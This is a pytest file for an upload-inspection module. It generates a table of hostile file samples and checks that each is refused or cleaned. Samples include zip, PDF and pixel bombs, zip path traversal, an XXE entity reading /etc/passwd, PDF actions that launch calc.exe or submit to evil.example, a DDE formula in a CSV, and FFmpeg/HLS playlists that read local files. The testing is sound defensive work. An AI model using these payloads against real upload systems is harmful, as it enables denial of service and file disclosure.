"""Every hazard that an upload can be, as a small file made here, and what becomes of each: one table."""

import struct
import zipfile
import zlib
from io import BytesIO
from tempfile import TemporaryFile

import pikepdf
import pytest
from PIL import Image

from microcred.foundation.inspection import FileRefused
from microcred.foundation.inspection.apart import inspect_apart
from microcred.foundation.tests.inspection import canaries
from microcred.foundation.tests.inspection.files import (
    HTML,
    PROGRAM,
    SVG,
    box,
    mp3,
    mp4,
    office,
    open_document,
    packed,
    wav,
)
from microcred.foundation.tests.inspection.recordings import film
from microcred.portfolios.tests.make import pdf, picture

TAKEN = "taken"


def bomb(*, nested: int = 0) -> bytes:
    """An Office file that is small and grows a thousandfold."""
    zeros = bytes(30 << 20)
    if not nested:
        return office(word__media__image1_dot_png=zeros)
    inner = packed({"zeros": zeros})
    for _level in range(nested):
        inner = packed({"inner.zip": inner})
    return office(word__embeddings__inner_dot_zip=inner)


def overlapping() -> bytes:
    """Two entries of the directory that lead to the same bytes."""
    content = bytearray(office(word__one_dot_xml=b"<a/>" * 9, word__two_dot_xml=b"<a/>" * 9))
    one, two = (content.find(b"PK\x01\x02", content.find(name) + 200) for name in (b"word/one.xml", b"word/two.xml"))
    places = [at for at in range(len(content)) if content[at : at + 4] == b"PK\x01\x02"]
    del one, two
    content[places[-1] + 42 : places[-1] + 46] = content[places[-2] + 42 : places[-2] + 46]
    return bytes(content)


def locked() -> bytes:
    """Every entry is flagged as encrypted."""
    content = bytearray(office())
    for at in range(len(content) - 8):
        if content[at : at + 4] == b"PK\x03\x04":
            content[at + 6] |= 1
        if content[at : at + 4] == b"PK\x01\x02":
            content[at + 8] |= 1
    return bytes(content)


def many_parts() -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for number in range(5001):
            archive.writestr(f"word/{number}.xml", b"")
    return target.getvalue()


def pixels() -> bytes:
    """A picture whose header promises ten gigabytes of pixels."""

    def part(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = part(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + part(b"IDAT", zlib.compress(bytes(1000))) + part(b"IEND", b"")


def pdf_with(**root: object) -> bytes:
    document = pikepdf.open(BytesIO(pdf()))
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    target = BytesIO()
    document.save(target)
    return target.getvalue()


def shrunk(content: bytes) -> bytes:
    """The same archive, its parts packed as tightly as they can be."""
    with zipfile.ZipFile(BytesIO(content)) as archive, zipfile.ZipFile(target := BytesIO(), "w") as packed_anew:
        for entry in archive.infolist():
            how = zipfile.ZIP_STORED if entry.filename == "mimetype" else zipfile.ZIP_DEFLATED
            packed_anew.writestr(zipfile.ZipInfo(entry.filename), archive.read(entry), how)
    return target.getvalue()


def unpacking_text() -> bytes:
    """A picture whose words unpack to a hundred megabytes."""
    words = b"Comment\0\0" + zlib.compress(bytes(100 << 20))
    content = picture()
    chunk = struct.pack(">I", len(words)) + b"zTXt" + words + struct.pack(">I", zlib.crc32(b"zTXt" + words))
    return content[:33] + chunk + content[33:]


def animation(frames: int) -> bytes:
    """A GIF of so many frames of a few pixels."""
    first, *others = (Image.new("RGB", (4, 4), (number % 200, number // 200, 0)) for number in range(frames))
    target = BytesIO()
    first.save(target, "GIF", save_all=True, append_images=others)
    return target.getvalue()


def slipping() -> bytes:
    """An office file with a part that would be unpacked two folders up."""
    with zipfile.ZipFile(target := BytesIO(office()), "a") as archive:
        archive.writestr("../../evil.xml", b"<a/>")
    return target.getvalue()


def commented() -> bytes:
    """An office file whose archive says something of itself at its end."""
    with zipfile.ZipFile(target := BytesIO(office()), "a") as archive:
        archive.comment = b"Packed by Ada Whitfield"
    return target.getvalue()


def lying() -> bytes:
    """A part that says it is ten bytes long, and is twenty megabytes."""
    content = bytearray(office(word__bomb_dot_xml=bytes(20 << 20)))
    at = content.rfind(b"word/bomb.xml") - 46
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def pdf_bomb() -> bytes:
    """A page whose drawing unpacks to three hundred megabytes."""
    document = pikepdf.open(BytesIO(pdf()))
    drawing = pikepdf.Stream(document, zlib.compress(bytes(300 << 20)))
    drawing.Filter = pikepdf.Name.FlateDecode
    document.pages[0].Contents = document.make_indirect(drawing)
    document.save(target := BytesIO(), compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return target.getvalue()


def locked_pdf() -> bytes:
    document = pikepdf.open(BytesIO(pdf()))
    document.save(target := BytesIO(), encryption=pikepdf.Encryption(owner="o", user="u"))
    return target.getvalue()


def pdf_with_attachment() -> bytes:
    document = pikepdf.open(BytesIO(pdf()))
    document.attachments["virus.exe"] = PROGRAM
    document.save(target := BytesIO())
    return target.getvalue()


def heic() -> bytes:
    """What a phone takes a picture in (ISO/IEC 23008-12): the coded picture is one of a video."""
    handler = box(b"hdlr", bytes(8) + b"pict" + bytes(13))
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", bytes(4) + handler) + box(b"mdat", bytes(200))


def elsewhere(kind: str) -> bytes:
    relation = f'<R><r Type="http://x/{kind}" Target="https://evil.example/t" TargetMode="External"/></R>'
    return office(word___rels__document_dot_xml_dot_rels=relation.encode())


JAVASCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
SENDING = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
CONCAT = b"ffconcat version 1.0\nfile /etc/passwd\n"
HLS = b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
REFERENCE = box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", b"file:///etc/passwd")))

CORPUS = {
    # Markup that runs
    "an SVG drawing": ("drawing.svg", lambda: SVG, "FileTypeNotTaken"),
    "an SVG drawing called a picture": ("drawing.png", lambda: SVG, "FileDisguised"),
    "a web page": ("page.html", lambda: HTML, "FileTypeNotTaken"),
    "a web page called a text": ("page.txt", lambda: HTML, "FileDisguised"),
    "markup further down in a text": ("page.txt", lambda: b"A plan.\n" * 9 + HTML, "FileHasActiveContent"),
    "XML": ("data.xml", lambda: b"<?xml version='1.0'?><a/>", "FileTypeNotTaken"),
    "XML with entities in an office file": (
        "plan.docx",
        lambda: office(word__x_dot_xml=b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
        "FileHasActiveContent",
    ),
    # What office files run or load
    "macros": ("plan.docx", lambda: office(word__vbaProject_dot_bin=b"macro"), "FileHasActiveContent"),
    "a file for macros": ("plan.docm", office, "FileTypeNotTaken"),
    "a template from elsewhere": ("plan.docx", lambda: elsewhere("attachedTemplate"), "FileHasActiveContent"),
    "a picture from elsewhere": ("plan.docx", lambda: elsewhere("image"), "FileHasActiveContent"),
    "an OLE object": (
        "plan.docx",
        lambda: office(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0"),
        "FileHasActiveContent",
    ),
    "a program among pictures": (
        "plan.docx",
        lambda: office(word__media__image1_dot_png=PROGRAM),
        "FileHasActiveContent",
    ),
    "an office file of the old kind": ("plan.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "FileTypeNotTaken"),
    "macros of an OpenDocument file": ("plan.odt", lambda: open_document(Basic__script=b"x"), "FileHasActiveContent"),
    "a program within an OpenDocument file": (
        "plan.odt",
        lambda: open_document(**{"Pictures/a.png": PROGRAM}),
        "FileHasActiveContent",
    ),
    "a workbook that fetches data when it is opened": (
        "plan.xlsx",
        lambda: office(
            "xlsx", xl__connections_dot_xml=b'<connections xmlns="m"><connection id="1" name="x"/></connections>'
        ),
        "FileHasActiveContent",
    ),
    "a formula that starts a program": (
        "plan.xlsx",
        lambda: office("xlsx", xl__worksheets__sheet1_dot_xml=b"<s xmlns='m'><ddeLink ddeService='cmd'/></s>"),
        "FileHasActiveContent",
    ),
    "a drawing with a script within an office file": (
        "plan.docx",
        lambda: office(word__media__image1_dot_svg=SVG),
        "FileHasActiveContent",
    ),
    "formulas in a table": ("table.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", "FileHasActiveContent"),
    "an electronic book": ("book.epub", lambda: packed({"mimetype": b"application/epub+zip"}), "FileTypeNotTaken"),
    "a program in a PDF": ("plan.pdf", pdf_with_attachment, "FileHasActiveContent"),
    "a PDF that starts a program": ("plan.pdf", lambda: pdf_with(OpenAction=LAUNCH), "FileHasActiveContent"),
    "a form in a PDF that sends itself": ("plan.pdf", lambda: pdf_with(OpenAction=SENDING), "FileHasActiveContent"),
    "JavaScript in a PDF": ("plan.pdf", lambda: pdf_with(OpenAction=JAVASCRIPT), "FileHasActiveContent"),
    # Two files in one
    "a GIF that is a Java archive": (
        "loop.gif",
        lambda: canaries.gif() + packed({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        TAKEN,
    ),
    "a JPEG that is a zip": ("photo.jpg", lambda: picture("JPEG") + packed({"a.exe": PROGRAM}), TAKEN),
    "a PDF that begins as a web page": ("plan.pdf", lambda: HTML + pdf(), "FileDisguised"),
    "a PDF with a web page behind": ("plan.pdf", lambda: pdf() + HTML, "FileCarriesMore"),
    "an office file behind a program": ("plan.docx", lambda: PROGRAM + office(), "FileDisguised"),
    "an office file with a comment behind": ("plan.docx", lambda: office() + b"more", "FileCarriesMore"),
    "a picture called a PDF, with a PDF behind": ("plan.pdf", lambda: picture() + pdf(), "FileDisguised"),
    "a recording with a web page behind": ("talk.wav", lambda: wav() + HTML, "FileCarriesMore"),
    "sound with a web page behind": ("talk.mp3", lambda: mp3() + HTML, TAKEN),
    "an office file with a comment of its packer": ("plan.docx", commented, "FileCarriesMore"),
    # Bombs
    "a flat zip bomb": ("plan.docx", bomb, "FileUnpacksTooLarge"),
    "a nested zip bomb": ("plan.docx", lambda: bomb(nested=3), "FileUnpacksTooLarge"),
    "a zip bomb of overlapping parts": ("plan.docx", overlapping, "FileUnpacksTooLarge"),
    "more parts than any document has": ("plan.docx", many_parts, "FileUnpacksTooLarge"),
    "a zip bomb in an OpenDocument file": (
        "plan.odt",
        lambda: shrunk(open_document(**{"Pictures/a.png": bytes(30 << 20)})),
        "FileUnpacksTooLarge",
    ),
    "a part that lies about its size": ("plan.docx", lying, "FileDamaged"),
    "a part that would land elsewhere": ("plan.docx", slipping, "FileDamaged"),
    "a picture whose words unpack": ("photo.png", unpacking_text, "FileDamaged"),
    "a drawing in a PDF that unpacks": ("plan.pdf", pdf_bomb, TAKEN),
    "more pictures than any animation has": ("loop.gif", lambda: animation(301), "FileUnpacksTooLarge"),
    "a pixel bomb": ("photo.png", pixels, "FileUnpacksTooLarge"),
    # Broken, locked, named wrongly
    "a picture that breaks off": ("photo.jpg", lambda: picture("JPEG", (400, 400))[:500], "FileDamaged"),
    "a recording that breaks off": ("film.mp4", lambda: mp4()[:-10], "FileDamaged"),
    "a PDF that breaks off": ("plan.pdf", lambda: pdf()[: len(pdf()) // 2], "FileDamaged"),
    "a locked office file": ("plan.docx", locked, "FileLocked"),
    "a locked PDF": ("plan.pdf", locked_pdf, "FileLocked"),
    "a packed archive": ("all.zip", lambda: packed({"plan.pdf": pdf()}), "FileTypeNotTaken"),
    "a packed archive called a document": ("plan.pdf", lambda: packed({"plan.pdf": pdf()}), "FileDisguised"),
    "a picture of a kind that few can open": ("photo.heic", heic, "FileTypeNotTaken"),
    "such a picture called a JPEG": ("photo.jpg", heic, "FileDisguised"),
    "such a picture called a video": ("photo.mov", heic, "FileDisguised"),
    "a video of a kind that few browsers play": ("lesson.mov", lambda: film(1, codec="libx265"), TAKEN),
    "a video of a kind that few can open": ("film.webm", mp4, "FileTypeNotTaken"),
    "no bytes": ("plan.pdf", lambda: b"", "FileEmpty"),
    "a picture called a document": ("plan.pdf", picture, "FileDisguised"),
    "a program called a document": ("plan.pdf", lambda: PROGRAM, "FileDisguised"),
    "two extensions": ("plan.pdf.exe", lambda: PROGRAM, "FileTypeNotTaken"),
    "no extension": ("plan", pdf, "FileTypeNotTaken"),
    # Playlists that read other files
    "a playlist of FFmpeg called a video": ("film.mp4", lambda: CONCAT, "FileDisguised"),
    "a playlist of HLS called a video": ("film.mp4", lambda: HLS, "FileDisguised"),
    "a playlist": ("film.m3u8", lambda: HLS, "FileTypeNotTaken"),
    "a recording that names another file": ("film.mov", lambda: REFERENCE, "FileDamaged"),
    # Names
    "a very long name": ("x" * 5000 + ".pdf", pdf, TAKEN),
    "a name from right to left": ("pl\u202efdp.exe.pdf", pdf, TAKEN),
    "a name with a path and zero bytes": ("../../etc/\0passwd.pdf", pdf, TAKEN),
    "a name of emoji": ("🍎📚.pdf", pdf, TAKEN),
}


def outcome(name: str, content: bytes) -> tuple[str, bytes]:
    with TemporaryFile() as source:
        source.write(content)
        source.seek(0)
        try:
            answer = inspect_apart(source, name)
        except FileRefused as refusal:
            return refusal.code, str(refusal).encode()
    with answer.clean as clean:
        return TAKEN, clean.read()


@pytest.mark.parametrize("hazard", CORPUS)
def test_what_becomes_of_a_hazard(hazard):
    name, made, expected = CORPUS[hazard]
    assert outcome(name, made())[0] == expected


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("photo.heic", "Export the picture as JPEG; on an iPhone"),
        ("photo.jpg", "its content is a HEIC picture, as phones take them. Nothing was kept of it."),
        ("photo.mov", "its content is a HEIC picture"),
    ],
)
def test_a_picture_as_phones_take_them_is_refused_with_the_way_forward(name, said):
    assert said in outcome(name, heic())[1].decode()


@pytest.mark.parametrize(
    "hazard", ["a GIF that is a Java archive", "a JPEG that is a zip", "sound with a web page behind"]
)
def test_of_two_files_in_one_only_the_one_it_is_called_is_kept(hazard):
    name, made, _expected = CORPUS[hazard]
    copy = outcome(name, made())[1]
    assert copy
    assert not any(other in copy for other in (b"PK\x03\x04", b"<html", b"MZ\x90"))
    assert not zipfile.is_zipfile(BytesIO(copy))
